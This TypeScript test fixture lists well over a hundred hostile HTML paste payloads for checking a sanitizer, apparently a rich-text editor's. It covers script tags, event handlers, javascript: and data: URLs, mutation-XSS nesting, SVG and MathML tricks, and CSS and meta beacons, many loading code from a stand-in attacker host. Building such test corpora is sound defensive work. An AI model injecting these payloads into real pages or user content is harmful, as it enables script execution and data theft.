/**
 * HTML that must not do anything when it is pasted, and the words of it that a person saw and wants to keep. Collected by kind of attack;
 * the shapes are those of the public cheat sheets (OWASP, PortSwigger, DOMPurify's tests), the words are ours.
 */
export interface Payload {
  name: string;
  html: string;
  /** What must still be there to read, in this order. */
  words: string[];
}

/** Every payload tries to set this on the window. */
export const TRAP = '__pasted';
const RUN = `window.${TRAP}=1`;
const AWAY = 'https://attacker.example';

const payloads: Payload[] = [];
const add = (group: string, html: string, ...words: string[]) =>
  payloads.push({ name: `${group} ${payloads.length + 1}: ${html.slice(0, 60)}`, html, words });

// Scripts in every dress.
for (const html of [
  `one<script>${RUN}</script>two`,
  `one<SCRIPT>${RUN}</SCRIPT>two`,
  `one<script src="${AWAY}/x.js"></script>two`,
  `one<script src=//attacker.example/x.js></script>two`,
  `one<script type="module">import '${AWAY}/x.js'</script>two`,
  `one<script type="text/template">${RUN}</script>two`,
  `one<script/x>${RUN}</script>two`,
  `one<script\n>${RUN}</script\n>two`,
  `one<script><!--\n${RUN}\n--></script>two`,
  `one<script>/*</script><script>*/${RUN}</script>two`,
  `one<scr<script>ipt>${RUN}</scr</script>ipt>two`,
  `one<script async defer crossorigin src="${AWAY}/a.js"></script>two`,
  `one<svg><script>${RUN}</script></svg>two`,
  `one<svg><script href="${AWAY}/x.js" /></svg>two`,
  `one<svg><script xlink:href="data:text/javascript,${RUN}" /></svg>two`,
  `one<math><script>${RUN}</script></math>two`,
  `one<script nomodule>${RUN}</script>two`,
  `one<script type="importmap">{"imports":{"x":"${AWAY}/x.js"}}</script>two`,
  `one<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${AWAY}"]}]}</script>two`,
]) add('script', html, 'one', 'two');

// Event handlers, on what may stay and on what may not.
for (const event of 'onclick onmouseover onfocus onblur onload onerror onkeydown oninput onbeforeinput onpaste oncopy ondragstart onwheel onpointerenter onanimationstart ontransitionend onscroll onauxclick oncontextmenu ontoggle'.split(' ')) {
  add('handler', `<p ${event}="${RUN}" tabindex="0">kept</p>`, 'kept');
}
for (const tag of 'b i em strong s u a h1 h2 h3 ul ol li blockquote code pre span div table td font center mark'.split(' ')) {
  add('handler', `<${tag} onmouseover="${RUN}" autofocus onfocus=${RUN} style="position:fixed;inset:0">kept</${tag}>`, 'kept');
}
for (const html of [
  `one<img src=x onerror=${RUN}>two`,
  `one<img src=x:x onerror="${RUN}">two`,
  `one<img/src=x/onerror=${RUN}>two`,
  `one<img src="x\` \`<script>${RUN}</script>"\` \`>two`,
  `one<image src=x onerror=${RUN}>two`,
  `one<input autofocus onfocus=${RUN}>two`,
  `one<video src=x onerror=${RUN}></video>two`,
  `one<audio src=x onerror=${RUN}></audio>two`,
  `one<video><source onerror=${RUN}></video>two`,
  `one<body onload=${RUN}>two`,
  `one<svg onload=${RUN}>two</svg>three`.replace('two', ''),
  `one<svg/onload=${RUN}></svg>two`,
  `one<marquee onstart=${RUN}></marquee>two`,
  `one<details open ontoggle=${RUN}><summary></summary></details>two`,
  `one<select onfocus=${RUN} autofocus><option>x</select>two`,
  `one<textarea onfocus=${RUN} autofocus></textarea>two`,
  `one<keygen onfocus=${RUN} autofocus>two`,
  `one<button onclick=${RUN} formaction=javascript:${RUN}>x</button>two`,
  `one<object onerror=${RUN} data=x></object>two`,
  `one<embed src=x onerror=${RUN}>two`,
  `one<iframe onload=${RUN}></iframe>two`,
  `one<p onbeforetoggle=${RUN} popover></p>two`,
  `one<img src onerror  =  "${RUN}"  >two`,
  `one<img src=x OnErRoR=${RUN}>two`,
  `one<img src=x on\u0000error=${RUN}>two`,
]) add('handler', html, 'one');

// Addresses that run, load or lie.
for (const href of [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, ` javascript:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, `\u0001javascript:${RUN}`, `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`, `&#x6A;avascript:${RUN}`, `jav&#x09;ascript:${RUN}`, `jav&#x0A;ascript:${RUN}`, `javascript:/*--></title></style>*/${RUN}`, `javascript://%0a${RUN}`,
  `vbscript:msgbox(1)`, `VBScript:${RUN}`, `livescript:${RUN}`, `mocha:${RUN}`, `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD4=`,
  `data:image/svg+xml,<svg onload=${RUN}>`, `data:,x`, `blob:${AWAY}/x`, `file:///etc/passwd`, `filesystem:${AWAY}/x`, `view-source:${AWAY}`, `about:blank`, `tauri://localhost/journal.html`,
  `ipc://localhost/quit`, `asset://localhost/x`, `x-apple-data:x`, `feed:javascript:${RUN}`, `jar:${AWAY}!/x`, `//attacker.example`, `/relative`, `#fragment`, `\\\\attacker.example\\share`, `ms-word:ofe|u|${AWAY}`,
]) add('address', `<p>see <a href="${href}">this page</a> there</p>`, 'see', 'this page', 'there');
for (const html of [
  `<a href="${AWAY}" ping="${AWAY}/ping" onclick="${RUN}" target=_blank rel=opener>words</a>`,
  `<a href="${AWAY}" style="background:url(${AWAY}/t.gif)">words</a>`,
  `<area href="javascript:${RUN}">words`,
  `<map name=m><area shape=default href="javascript:${RUN}"></map>words`,
  `<base href="${AWAY}/"><a href="x">words</a>`,
  `<form action="javascript:${RUN}"><p>words</p><input type=submit></form>`,
  `<form id=f></form><button form=f formaction="javascript:${RUN}">x</button>words`,
  `<isindex type=image src=1 onerror=${RUN}>words`,
  `<link rel=stylesheet href="${AWAY}/x.css">words`,
  `<link rel=prefetch href="${AWAY}/x">words`,
  `<link rel=import href="${AWAY}/x.html">words`,
  `<link rel=dns-prefetch href="//attacker.example">words`,
  `<link rel=preload as=image href="${AWAY}/x" imagesrcset="${AWAY}/y 2x">words`,
  `<svg><a xlink:href="javascript:${RUN}"><text>drawn</text></a></svg>words`,
  `<math href="javascript:${RUN}"><mtext>words</mtext></math>`,
  `<math><maction actiontype="statusline#${AWAY}" xlink:href="javascript:${RUN}">words</maction></math>`,
]) add('address', html, 'words');

// What loads by itself.
for (const html of [
  `one<img src="${AWAY}/pixel.gif">two`,
  `one<img srcset="${AWAY}/a 1x, ${AWAY}/b 2x">two`,
  `one<picture><source srcset="${AWAY}/a"><img src="${AWAY}/b"></picture>two`,
  `one<img loading=eager decoding=sync src=//attacker.example/p>two`,
  `one<img src="picture:someone">two`,
  `one<img data-picture="x onerror=${RUN}" src="${AWAY}/p">two`,
  `one<img data-picture="../../x">two`,
  `one<img lowsrc="${AWAY}" dynsrc="${AWAY}">two`,
  `one<video poster="${AWAY}/p" src="${AWAY}/v" autoplay></video>two`,
  `one<audio src="${AWAY}/a" autoplay></audio>two`,
  `one<video><track src="${AWAY}/t.vtt" default></video>two`,
  `one<embed src="${AWAY}/x.swf">two`,
  `one<object data="${AWAY}/x"></object>two`,
  `one<object classid="clsid:1" codebase="${AWAY}"><param name=src value="${AWAY}"></object>two`,
  `one<applet code=x archive="${AWAY}/x.jar"></applet>two`,
  `one<iframe src="${AWAY}"></iframe>two`,
  `one<iframe srcdoc="<script>parent.${TRAP}=1</script>"></iframe>two`,
  `one<iframe src="javascript:${RUN}"></iframe>two`,
  `one<portal src="${AWAY}"></portal>two`,
  `one<fencedframe src="${AWAY}"></fencedframe>two`,
  `one<bgsound src="${AWAY}/s">two`,
  `one<input type=image src="${AWAY}/i">two`,
  `one<svg><image href="${AWAY}/i" /></svg>two`,
  `one<svg><use href="${AWAY}/s.svg#x" /></svg>two`,
  `one<svg><feImage href="${AWAY}/i" /></svg>two`,
  `one<svg><style>@import '${AWAY}/x.css'</style></svg>two`,
  `one<table background="${AWAY}/b"><tr><td background="${AWAY}/c">cell</td></tr></table>two`,
  `one<div style="background-image:url('${AWAY}/b')"></div>two`,
  `one<p style="list-style:url(${AWAY}/l)"></p>two`,
  `one<span style="content:url(${AWAY})"></span>two`,
  `one<style>@import url(${AWAY}/x.css);</style>two`,
  `one<style>@font-face{font-family:x;src:url(${AWAY}/f.woff2)} *{font-family:x}</style>two`,
  `one<style>[data-x^="a"]{background:url(${AWAY}/a)}</style>two`,
  `one<style media="print">body{background:url(${AWAY})}</style>two`,
  `one<span style="width:expression(${RUN})"></span>two`,
  `one<span style="behavior:url(${AWAY}/x.htc)"></span>two`,
  `one<span style="-moz-binding:url(${AWAY}/x.xml#x)"></span>two`,
  `one<xml id=x src="${AWAY}/x.xml"></xml>two`,
]) add('load', html, 'one', 'two');

// The document itself.
for (const html of [
  `<meta http-equiv="refresh" content="0;url=${AWAY}">words`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">words`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">words`,
  `<meta http-equiv="set-cookie" content="a=b">words`,
  `<meta charset="utf-7">+ADw-script+AD4-words`,
  `<html onmouseover="${RUN}"><head><title>hidden title</title><base href="${AWAY}"></head><body onload="${RUN}" background="${AWAY}">words</body></html>`,
  `<!DOCTYPE html SYSTEM "${AWAY}/x.dtd"><p>words</p>`,
  `<?xml-stylesheet href="${AWAY}/x.xsl"?><p>words</p>`,
  `<![CDATA[<script>${RUN}</script>]]>words`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->words`,
  `<!--[if !mso]><!--><p>words</p><!--<![endif]-->`,
  `<frameset onload=${RUN}><frame src="${AWAY}"></frameset>words`.replace('<frameset', 'words<frameset'),
  `<noscript><img src="${AWAY}/p"></noscript>words`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>words`,
  `<template><script>${RUN}</script><img src=x onerror=${RUN}></template>words`,
  `<template shadowrootmode="open"><script>${RUN}</script></template>words`,
  `<div><template shadowrootmode="open"><img src=x onerror=${RUN}></template></div>words`,
  `<slot onslotchange="${RUN}">words</slot>`,
  `<x-element is="x" onclick="${RUN}">words</x-element>`,
  `<dialog open><form method=dialog><p>words</p></form></dialog>`,
  `<p id="app" name="journal" class="ProseMirror">words</p>`,
  `<form name=createElement></form><img name=getElementById>words`,
  `<a id=ipc></a><a id=ipc name=invoke href="${AWAY}"></a>words`,
]) add('document', html, 'words');

// Mutation: markup that means something else the second time it is read.
for (const html of [
  `one<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">two`,
  `one<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `one<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}></style></mglyph></form></mtext></math></form>`,
  `one<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${RUN} src=1>"></textarea></mtext></svg></mglyph></mtext></math>`,
  `one<svg><desc><noscript></desc><img src=x onerror=${RUN}></noscript></svg>`,
  `one<svg><foreignObject><p>drawn</p><img src=x onerror=${RUN}></foreignObject></svg>`,
  `one<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=${RUN}>">`,
  `one<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `one<svg><title><![CDATA[<img src=x onerror=${RUN}>]]></title></svg>`,
  `one<noembed><img src="</noembed><iframe onload=${RUN}>"></noembed>`,
  `one<noframes><p title="</noframes><svg/onload=${RUN}>"></noframes>`,
  `one<xmp><p title="</xmp><svg/onload=${RUN}>"></xmp>`,
  `one<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `one<plaintext><img src=x onerror=${RUN}>`,
  `one<title>&lt;/title&gt;&lt;img src=x onerror=${RUN}&gt;</title>`,
  `one<textarea>&lt;/textarea&gt;&lt;img src=x onerror=${RUN}&gt;</textarea>`,
  `one<iframe>&lt;/iframe&gt;&lt;img src=x onerror=${RUN}&gt;</iframe>`,
  `one<style><!--</style><img src=x onerror=${RUN}>-->`,
  `one<p title="&quot;><img src=x onerror=${RUN}>">kept</p>`,
  `one<p id='"><img src=x onerror=${RUN}>'>kept</p>`,
  `one<table><a href="javascript:${RUN}"><tr><td>kept</td></tr></a></table>`,
  `one<table><math><select><mi><select></table><img src=x onerror=${RUN}>`,
  `one<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${RUN}>">`,
  `one<svg><p><style><g title="</style><img src=x onerror=${RUN}>">`,
  `one<math><p></math><style><!--</style><img src=x onerror=${RUN}>--></style>`,
  `one<a title="\`<b onmouseover=${RUN}>">kept</a>`,
  `one<div xmlns="http://www.w3.org/2000/svg"><script>${RUN}</script></div>`,
  `one<svg:script xmlns:svg="http://www.w3.org/2000/svg">${RUN}</svg:script>`.replace(`>${RUN}<`, '><'),
  `one<xhtml:script xmlns:xhtml="http://www.w3.org/1999/xhtml" src="${AWAY}"></xhtml:script>`,
  `one&lt;img src=x onerror=${RUN}&gt;`,
  `one&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
]) add('mutation', html, 'one');

// SVG and MathML that animate, refer and embed.
for (const html of [
  `one<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>two`,
  `one<svg><set attributeName="onmouseover" to="${RUN}" /></svg>two`,
  `one<svg><a><animate attributeName=href values="javascript:${RUN}" /><text>x</text></a></svg>two`,
  `one<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler></svg>two`,
  `one<svg><style>*{fill:url(${AWAY}#x)}</style></svg>two`,
  `one<svg><filter><feImage xlink:href="${AWAY}/i" /></filter></svg>two`,
  `one<svg><switch><foreignObject requiredExtensions="x"><iframe src="${AWAY}"></iframe></foreignObject></switch></svg>two`,
  `one<math><mi xlink:href="data:text/html,<script>${RUN}</script>"></mi></math>two`,
  `one<math><semantics><annotation-xml encoding="application/xhtml+xml"><iframe src="${AWAY}"></iframe></annotation-xml></semantics></math>two`,
  `one<svg><metadata><rdf xmlns="x"><script>${RUN}</script></rdf></metadata></svg>two`,
]) add('drawing', html, 'one', 'two');

// Too much of everything.
add('size', `${'<div>'.repeat(3000)}deep${'</div>'.repeat(3000)}`, 'deep');
add('size', `${'<b>'.repeat(3000)}deep${'</b>'.repeat(3000)}`, 'deep');
add('size', `${'<blockquote>'.repeat(600)}deep${'</blockquote>'.repeat(600)}`, 'deep');
add('size', `${'<ul><li>'.repeat(400)}deep${'</li></ul>'.repeat(400)}`, 'deep');
add('size', `${'<b><i><s>'.repeat(700)}deep`, 'deep');
add('size', `${'<h1><div>'.repeat(700)}deep`, 'deep');
add('size', `<p title="${'x'.repeat(500_000)}">kept</p>`, 'kept');
add('size', `<p style="${'a:b;'.repeat(100_000)}">kept</p>`, 'kept');
add('size', `<a href="https://a.example/${'x'.repeat(200_000)}">kept</a>`, 'kept');
add('size', `<p ${Array.from({ length: 5000 }, (_, index) => `data-${index}=x`).join(' ')}>kept</p>`, 'kept');
add('size', `${'<p><span>'.repeat(2000)}kept`, 'kept');
add('size', `<p data-pm-slice="999 999 []">kept</p>`, 'kept');
add('size', `<p data-pm-slice='1 1 [${'"blockquote",null,'.repeat(2000)}"blockquote",null]'>kept</p>`, 'kept');
add('size', `<p data-pm-slice='0 0 ["codeBlock",{"language":"<img>"}]'>kept</p>`, 'kept');
add('size', `<p data-pm-slice='0 0 ["picture",{"id":"x"}]'>kept</p>`, 'kept');
add('size', `<p data-pm-slice='0 0 [{"__proto__":{"x":1}}]'>kept</p>`, 'kept');
add('size', `<pre data-verbatim onclick="${RUN}">&lt;script&gt;kept&lt;/script&gt;</pre>`, '<script>kept</script>');
add('size', `<code data-verbatim="x" onclick="${RUN}">kept</code>`, 'kept');
add('size', `<li data-checked="${RUN}">kept</li>`, 'kept');
add('size', `<ol start="1e99"><li>kept</li></ol>`, 'kept');
add('size', `<ol start="-1"><li>kept</li></ol>`, 'kept');

// Words nobody saw.
for (const html of [
  `<p>seen</p><p style="display:none">${AWAY}</p>`,
  `<p>seen</p><p hidden>${AWAY}</p>`,
  `<p>seen</p><span style="mso-hide:all">${AWAY}</span>`,
  `<p>seen</p><span style="visibility: hidden">${AWAY}</span>`,
]) add('hidden', html, 'seen');

export const PAYLOADS: readonly Payload[] = payloads;
